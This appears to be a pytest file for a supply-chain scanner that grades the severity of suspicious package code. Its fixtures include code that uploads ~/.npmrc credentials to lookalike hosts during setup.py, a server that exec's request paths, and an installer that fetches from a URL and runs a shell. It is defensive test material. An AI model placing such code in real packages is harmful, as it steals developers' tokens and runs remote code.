"""Settings that go where they belong, examples, and texts for interpreters."""

import pytest
from weighed import program_of, worst, worst_of

from ostiary.core.scale import Severity

SENDS = """
import os, requests
def send():
    requests.post({host!r}, data=open(os.path.expanduser("~/.npmrc")).read())
"""
SERVES = """
import wsgiref.simple_server
from sample.render import run
def serve(environ, start):
    run(environ["PATH_INFO"])
    return []
wsgiref.simple_server.make_server("", 8000, serve).serve_forever()
"""
ASKS = "import subprocess, sys\nfrom setuptools import setup\n{call}\nsetup(name='sample')\n"


@pytest.mark.parametrize(
    ("host", "severity"),
    [
        ("https://a.npm.org/upload/", Severity.LOW),
        ("http://a.npm.org/upload/", Severity.HIGH),
        ("https://npm.org.a.example.invalid/", Severity.HIGH),
        ("https://notnpm.org/", Severity.HIGH),
    ],
)
def test_the_settings_of_a_service_go_to_it(host: str, severity: Severity) -> None:
    assert worst("stealer", SENDS.format(host=host)) is severity
    early = SENDS.format(host=host) + "send()\n"
    assert worst("stealer", early, "sample/_part.py") is not None


def test_settings_that_nobody_asked_for_go_nowhere() -> None:
    text = SENDS.format(host="https://a.npm.org/") + "send()\n"
    assert worst_of("stealer", program_of("sdist", {"setup.py": text})) is Severity.CRITICAL


@pytest.mark.parametrize(
    ("path", "severity"), [("examples/run.py", Severity.LOW), ("sample/run.py", Severity.HIGH)]
)
def test_what_only_an_example_fetches(path: str, severity: Severity) -> None:
    files = {
        "sample/__init__.py": "",
        "sample/render.py": "def run(text):\n    exec(compile(text, 'a', 'exec'))\n",
        path: SERVES,
    }
    found = worst_of("dropper", program_of("sdist", files))
    assert found is not None
    assert (found <= Severity.LOW) is (severity is Severity.LOW)


@pytest.mark.parametrize(
    ("call", "severity"),
    [
        ('subprocess.check_output(["python", "-c", "import numpy\\nprint(numpy.a[0])"])', "low"),
        ('subprocess.check_output(["python", "-sS", "-c", "import sys; print(sys.path)"])', "low"),
        ('subprocess.check_output(["python", "-c", "import helper\\nprint(helper.a)"])', "medium"),
        ('subprocess.check_output(["python", "-c", "import numpy\\nexec(numpy.a)"])', "medium"),
    ],
)
def test_a_text_for_an_interpreter(call: str, severity: str) -> None:
    files = {"setup.py": ASKS.format(call=call), "helper.py": "a = 1\n"}
    found = worst_of("install-process", program_of("sdist", files))
    assert found is Severity[severity.upper()]


def test_a_subdirectory_of_meson_knows_what_stands_above() -> None:
    files = {
        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'mesonpy'\n",
        "meson.build": "project('sample')\npy = import('python').find_installation()\nsubdir('sample')\n",
        "sample/meson.build": "run_command(py, '-c', 'import sys; print(sys.prefix)')\n",
    }
    assert [one.text for one in program_of("sdist", files).flows] == [
        "python -c import sys; print(sys.prefix)"
    ]
    files["meson.build"] += "py = 'sh'\n"
    assert "python" not in program_of("sdist", files).flows[0].text


@pytest.mark.parametrize(
    ("host", "severity"),
    [
        ("https://a.python.org/", Severity.HIGH),
        ("https://python.org.a.example.invalid/", Severity.CRITICAL),
    ],
)
def test_an_installer_that_brings_its_tools(host: str, severity: Severity) -> None:
    text = f"import os, urllib.request\nurllib.request.urlopen({host!r})\nos.system('sh x')\n"
    assert worst_of("uncalled-chain", program_of("sdist", {"setup.py": text})) is severity
